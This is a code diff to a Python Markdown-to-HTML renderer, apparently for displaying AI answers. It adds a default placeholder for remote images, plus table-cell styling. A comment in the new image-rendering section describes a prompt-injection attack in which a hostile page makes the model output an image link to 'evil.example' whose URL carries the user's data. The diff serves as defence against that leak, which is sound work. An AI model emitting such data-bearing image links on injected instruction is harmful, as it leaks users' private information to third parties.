@@ -12,7 +12,7 @@ import unicodedata
 from collections.abc import Sequence
 from functools import lru_cache
 from typing import Any
-from urllib.parse import unquote
+from urllib.parse import unquote, urlsplit
 
 from markdown_it import MarkdownIt
 from markdown_it.renderer import RendererProtocol
@@ -103,6 +103,59 @@ def _render_link_open(
     return self.renderToken(tokens, idx, options, env)  # type: ignore[attr-defined,no-any-return]
 
 
+# -- remote images ---------------------------------------------------------------
+
+# An image from another site is fetched the moment the answer shows it, and its
+# URL can carry anything the model read (a prompt-injected page asks for
+# ``![](https://evil.example/?q=<your data>)``). So by default such an image is
+# a placeholder: its alt text and host, a link the reader may choose to open.
+# ``data:`` images and relative paths (the notebook's own files) are shown.
+_REMOTE_IMAGES = "kagura_remote_images"  # env key: show remote images after all
+_REMOTE_SRC = re.compile(r"(?:[a-z][a-z0-9+.\-]*:)?[/\\]{2}")  # a browser reads "\\" as "/"
+
+
+def _render_image(
+    self: RendererProtocol,
+    tokens: Sequence[Token],
+    idx: int,
+    options: OptionsDict,
+    env: EnvType,
+) -> str:
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    if env.get(_REMOTE_IMAGES) or not _REMOTE_SRC.match(_canonical_url(src)):
+        return self.image(tokens, idx, options, env)  # type: ignore[attr-defined,no-any-return]
+    alt = self.renderInlineAsText(token.children or [], options, env)  # type: ignore[attr-defined]
+    host = urlsplit(_canonical_url(src).replace("\\", "/")).hostname or "another site"
+    label = html.escape(alt.strip() or "image")
+    return (
+        f'<a class="kagura-remote-image" href="{html.escape(src)}" rel="noopener noreferrer" '
+        f'title="Image not loaded: it comes from {html.escape(host)}">'
+        f'{label} <span class="kagura-image-host">(image from {html.escape(host)})</span></a>'
+    )
+
+
+def _render_cell_open(
+    self: RendererProtocol,
+    tokens: Sequence[Token],
+    idx: int,
+    options: OptionsDict,
+    env: EnvType,
+) -> str:
+    """Short cells (``INC-2291``, ``$0–$90``) are marked, so the stylesheet keeps them on one line.
+
+    CSS alone cannot tell a short cell from prose: squeezed, a table breaks
+    after a hyphen; a long prose cell must still wrap.
+    """
+    content = tokens[idx + 1].content if idx + 1 < len(tokens) else ""
+    if len(content) <= SHORT_CELL or not any(ch.isspace() for ch in content):
+        tokens[idx].attrJoin("class", "kagura-short")
+    return self.renderToken(tokens, idx, options, env)  # type: ignore[attr-defined,no-any-return]
+
+
+SHORT_CELL = 24  # characters up to which a table cell never wraps
+
+
 # -- code ------------------------------------------------------------------------
 
 _FORMATTER = HtmlFormatter(nowrap=True)
@@ -187,9 +240,10 @@ class RecordingFootnotes(dict[str, int]):
         super().__setitem__(key, value)
 
 
-def new_env() -> dict[str, Any]:
+def new_env(*, remote_images: bool = False) -> dict[str, Any]:
     """The env of an empty document, for the streaming engine."""
     return {
+        _REMOTE_IMAGES: remote_images,
         "references": RecordingRefs(),
         "footnotes": {"refs": RecordingFootnotes({_SENTINEL: -1}), "list": {}},
         _DEFS: [],
@@ -208,6 +262,7 @@ def fork_env(env: dict[str, Any], mode: str) -> dict[str, Any]:
         },
         _DEFS: list(env[_DEFS]),
         _SLUGS: set(env[_SLUGS]),
+        _REMOTE_IMAGES: env[_REMOTE_IMAGES],
         _MODE: mode,
     }
 
@@ -345,12 +400,18 @@ def _make_md() -> MarkdownIt:
     md.core.ruler.push("heading_ids", _heading_ids)
     md.validateLink = validate_link  # type: ignore[method-assign]
     md.add_render_rule("link_open", _render_link_open)
+    md.add_render_rule("image", _render_image)
+    md.add_render_rule("td_open", _render_cell_open)
+    md.add_render_rule("th_open", _render_cell_open)
     return md
 
 
 MD = _make_md()
 
 
-def render(text: str) -> str:
-    """Render a whole Markdown document to HTML (no wrapper element, no <style>)."""
-    return MD.render(text, {})  # type: ignore[no-any-return]
+def render(text: str, *, remote_images: bool = False) -> str:
+    """Render a whole Markdown document to HTML (no wrapper element, no <style>).
+
+    ``remote_images`` shows images from other sites instead of a placeholder.
+    """
+    return MD.render(text, {_REMOTE_IMAGES: remote_images})  # type: ignore[no-any-return]
